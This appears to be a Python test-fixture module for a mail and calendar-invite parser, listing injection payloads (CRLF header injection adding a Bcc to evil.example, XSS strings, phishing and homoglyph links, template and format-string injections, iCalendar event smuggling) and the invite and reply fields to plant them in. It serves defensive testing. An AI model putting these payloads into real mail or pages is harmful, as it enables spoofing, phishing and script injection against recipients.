"""What strangers write to get into a mail of ours, and every place of an invite or an answer where they can."""

from __future__ import annotations

import base64
from collections.abc import Callable

from tests.builders import ROBIN
from tests.reliability.pipeline import vouched

BCC = "Bcc: evil@evil.example"
PAYLOADS: dict[str, str] = {
    "CR LF": f"a\r\n{BCC}",
    "LF": f"a\n{BCC}",
    "CR": f"a\r{BCC}",
    "CR LF and a fold": f"a\r\n {BCC}",
    "LF and a tab": f"a\n\t{BCC}",
    "an empty line": "a\r\n\r\n<script>alert(1)</script>",
    "a boundary": "a\r\n--===============1==\r\nContent-Type: text/html\r\n\r\n<b>evil</b>",
    "NUL": f"a\0{BCC}",
    "vertical tab and form feed": f"a\x0b{BCC}\x0c{BCC}",
    "next line": f"a\x85{BCC}",
    "line separator": f"a\u2028{BCC}\u2029{BCC}",
    "file and record separators": f"a\x1c{BCC}\x1d\x1e\x1f",
    "escape sequence": "a\x1b[2J\x1b]0;evil\x07",
    "backspaces": "Priya\x08\x08\x08\x08\x08Mallory",
    "right-to-left override": "invoice\u202egnp.exe",
    "isolates": "a\u2066\u2067evil\u2069\u2068",
    "marks of direction": "a\u200f\u200e\u061cevil",
    "zero width": "P\u200br\u2060i\ufeffya",
    "tags": "Priya" + "".join(chr(0xE0000 + ord(char)) for char in "evil"),
    "soft hyphens": "P\u00adriya \u00adNair",
    "encoded word, quoted": "=?utf-8?q?a=0D=0ABcc:_evil@evil.example?=",
    "encoded word, base64": "a =?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?= b",
    "encoded word in an encoded word": "=?utf-8?q?=3D=3Futf-8=3Fq=3Fa=3D0D=3D0ABcc=3Aevil=3F=3D?=",
    "encoded word, endless": "=?utf-8?q?" + "=0D=0A" * 400 + "?=",
    "encoded word, another charset": "=?utf-7?q?+AA0ACg-Bcc: evil?= =?x-unknown?b?////?=",
    "continued parameters": 'a"; filename*0="evil.exe"; filename*1*=utf-8\'\'%0D%0ABcc',
    "percent": "a%0D%0ABcc:%20evil@evil.example%00",
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "end of an attribute": "' onmouseover='alert(1)' x=\" onfocus=\"alert(1)",
    "style": "</style></title><svg/onload=alert(1)>",
    "comment": "--><iframe src=//evil.example></iframe><!--",
    "entities": "&lt;script&gt;&#60;b&#62;&amp;lt;i&amp;gt;",
    "half a tag": "<a href=https://evil.example",
    "form": '<form action="https://evil.example"><input name=password></form>',
    "meta": '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
    "javascript link": "javascript:alert(document.domain)",
    "javascript link, broken up": "java\tscript:alert(1) JaVaScRiPt:alert(1)",
    "data link": "data:text/html;base64,PHNjcmlwdD4=",
    "phishing link": "Confirm at https://evil.example/login?user=robin",
    "link without a scheme": "www.evil.example or evil.example/login or //evil.example/x",
    "link of a known host in the name": "https://duckduckgo.com@evil.example/ https://duckduckgo.com.evil.example/",
    "link in full width": "ｈｔｔｐｓ://evil.example/x http\u2236//evil.example",
    "mailto with bcc": "mailto:priya.nair@harbor.example?bcc=evil@evil.example&body=x",
    "two addresses": "priya.nair@harbor.example, evil@evil.example",
    "address in a name": "evil@evil.example <priya.nair@harbor.example>",
    "address with a query": "priya@harbor.example?bcc=evil@evil.example",
    "homoglyphs": "priya.n\u0430ir@h\u0430rb\u043er.example",
    "address of the user": f"{ROBIN}, {ROBIN}",
    "template": "{{ 7 * 191 }} {% for x in range(9) %}evil{% endfor %} {# #}",
    "template of attributes": "{{ page.__class__.__mro__ }} ${7*191} #{7*191} <%= 7*191 %> %(evil)s {0.__class__}",
    "format": "%s%s%n {name} {0} {__import__('os')}",
    "surrogates": "a\udcff\udc80b",
    "noncharacters": "a\uffff\ufffe\U0001ffffb\ue000",
    "many marks": "a" + "\u0301\u0323" * 500,
    "very long": "x" * 5_000,
    "very long, in words": "evil " * 2_000,
    "very long, in another script": "会" * 3_000,
    "calendar": "a\\nEND:VEVENT\\nBEGIN:VEVENT\\nATTENDEE:mailto:evil@evil.example",
    "calendar, raw": "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTENDEE:mailto:evil@evil.example\r\nX:",
    "form of ours": "a\r\nWith: Evil <evil@evil.example>\r\nWhere: https://evil.example/x",
    "word of ours": "stop all",
    "blank": " ",
    "dots": "\r\n.\r\n.",
    "brackets": "[their first name] [" + "[" * 50,
}
Place = Callable[[str], bytes]
WHEN = "Thursday, November 12, 2026, 2:00 PM - 2:30 PM PST"
_PROPERTIES = ("SUMMARY", "LOCATION", "DESCRIPTION", "COMMENT", "CATEGORIES", "URL", "CONTACT", "UID", "METHOD",
               "RECURRENCE-ID", "SEQUENCE", "X-GOOGLE-CONFERENCE", "X-ALT-DESC;FMTTYPE=text/html")  # fmt: skip
# Where the letters stand are the payload's places; the other lines are an ordinary invite.
_LINES = {
    "UID": "UID:talk-1@calendar.example",
    "SUMMARY": "SUMMARY:Coffee chat: Priya / Robin",
    "LOCATION": "LOCATION:Google Meet",
    "ORGANIZER": "ORGANIZER;CN=Priya Nair:mailto:priya.nair@harbor.example",
    "ATTENDEE": f"ATTENDEE;CN=Robin Lee:mailto:{ROBIN}",
    "DTSTART": "DTSTART:20261112T220000Z",
    "DTEND": "DTEND:20261112T223000Z",
    "DTSTAMP": "DTSTAMP:20261110T170000Z",
    "SEQUENCE": "SEQUENCE:0",
}
OVER = {"DTSTART": "DTSTART:20261101T210000Z", "DTEND": "DTEND:20261101T220000Z"}


def raw(text: str) -> str:
    """Write a payload as it is."""
    return text


def escaped(text: str) -> str:
    """Write a payload so that it comes through the escapes of iCalendar whole (RFC 5545, 3.3.11)."""
    bare = text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")
    return bare.replace("\r\n", "\\n").replace("\n", "\\n")


def in_quotes(text: str) -> str:
    """Write a payload so that it comes through a parameter whole (RFC 6868)."""
    bare = text.replace("^", "^^").replace('"', "^'")
    return '"' + bare.replace("\r\n", "^n").replace("\n", "^n") + '"'


def in_an_encoded_word(text: str) -> str:
    """Write a payload so that it comes through a header whole (RFC 2047)."""
    return f"=?utf-8?b?{base64.b64encode(text.encode('utf-8', 'surrogateescape')).decode()}?="


def invite(
    lines: dict[str, str] | None = None, head: str = "", before: str = "", method: str = "REQUEST", name: str = ""
) -> bytes:
    """Write a mail of Robin's with an invite, some lines of it as given; `before` stands above the event."""
    calendar = ["BEGIN:VCALENDAR", "VERSION:2.0", f"METHOD:{method}", before, "BEGIN:VEVENT"]
    calendar += [*(_LINES | (lines or {})).values(), "END:VEVENT", "END:VCALENDAR", ""]
    body = "\r\n".join(line for line in calendar if line)
    typed = f"Content-Type: text/calendar; charset=utf-8; method={method}{name}\r\n\r\n"
    return _mail(f"Subject: Fwd: Coffee chat\r\n{head}{typed}{body}\r\n")


def filled_form(**fields: str) -> bytes:
    """Write an answer with our form, some of its fields as given."""
    form = {"With": "Priya Nair, priya.nair@harbor.example", "Company": "Harbor", "When": WHEN, "Length": "30 minutes"}
    body = "".join(f"{label}: {value}\r\n" for label, value in (form | {"Where": "Google Meet"} | fields).items())
    return _mail(f"Subject: Re: Your mail to Foreword\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}")


def words(subject: str = "Fwd: Coffee chat", title: str = "Coffee chat", where: str = "Google Meet") -> bytes:
    """Write a forward whose meeting stands in its words alone."""
    body = "---------- Forwarded message ---------\r\nFrom: Priya Nair <priya.nair@harbor.example>\r\n"
    body += f"Subject: {title}\r\n\r\nWhen: {WHEN}\r\nWhere: {where}\r\n\r\nPriya Nair\r\nHead of Product, Harbor\r\n"
    return _mail(f"Subject: {subject}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}")


def _mail(text: str) -> bytes:
    return vouched(text.encode("utf-8", "surrogateescape"))


def _property(name: str, write: Callable[[str], str]) -> Place:
    return lambda text: invite({name.partition(";")[0]: f"{name}:{write(text)}"})


def _zone(text: str) -> bytes:
    half = "BEGIN:STANDARD\r\nDTSTART:19700101T000000\r\nTZOFFSETFROM:-0800\r\nTZOFFSETTO:-0800\r\nEND:STANDARD\r\n"
    zone = f"BEGIN:VTIMEZONE\r\nTZID:{text}\r\n{half}END:VTIMEZONE"
    return invite({"DTSTART": f"DTSTART;TZID={text}:20261112T140000", "DTEND": ""}, before=zone)


def _header(name: str, write: Callable[[str], str]) -> Place:
    return lambda text: invite(head=f"{name}: {write(text)}\r\n")


PLACES: dict[str, Place] = {
    **{f"{name}, raw": _property(name, raw) for name in _PROPERTIES},
    **{f"{name}, escaped": _property(name, escaped) for name in _PROPERTIES[:7]},
    "SUMMARY of a meeting that is over": lambda text: invite(OVER | {"SUMMARY": f"SUMMARY:{escaped(text)}"}),
    "name of the organizer": lambda text: invite(
        {"ORGANIZER": f"ORGANIZER;CN={in_quotes(text)}:mailto:priya.nair@harbor.example"}
    ),
    "address of the organizer": lambda text: invite({"ORGANIZER": f"ORGANIZER;CN=Priya Nair:mailto:{text}"}),
    "name of an attendee": lambda text: invite(
        {
            "ATTENDEE": f"ATTENDEE;CN={in_quotes(text)}:mailto:sam@harbor.example",
            "ORGANIZER": f"ORGANIZER:mailto:{ROBIN}",
        }
    ),
    "address of an attendee": lambda text: invite(
        {"ATTENDEE": f"ATTENDEE;CN=Sam Ode:mailto:{text}", "ORGANIZER": f"ORGANIZER:mailto:{ROBIN}"}
    ),
    "name of a zone": _zone,
    "Message-ID": _header("Message-ID", lambda text: f"<{text}@x.example>"),
    "References": _header("References", lambda text: f"<{text}> {text}"),
    "Reply-To": _header("Reply-To", in_an_encoded_word),
    "name in From": lambda text: invite().replace(b"From: Robin Lee", b"From: " + in_an_encoded_word(text).encode()),
    "name of a file": lambda text: invite(name=f'; name="{text}"'),
    "subject": lambda text: words(subject=in_an_encoded_word(text)),
    "subject of a mail without a meeting": lambda text: _mail(f"Subject: {in_an_encoded_word(text)}\r\n\r\nHello\r\n"),
    "title in words": lambda text: words(title=text),
    "place in words": lambda text: words(where=text),
    **{
        f"form, {label}": lambda text, label=label: filled_form(**{label: text})  # type: ignore[misc]  # bound at once
        for label in ("With", "Company", "When", "Length", "Where")
    },
}
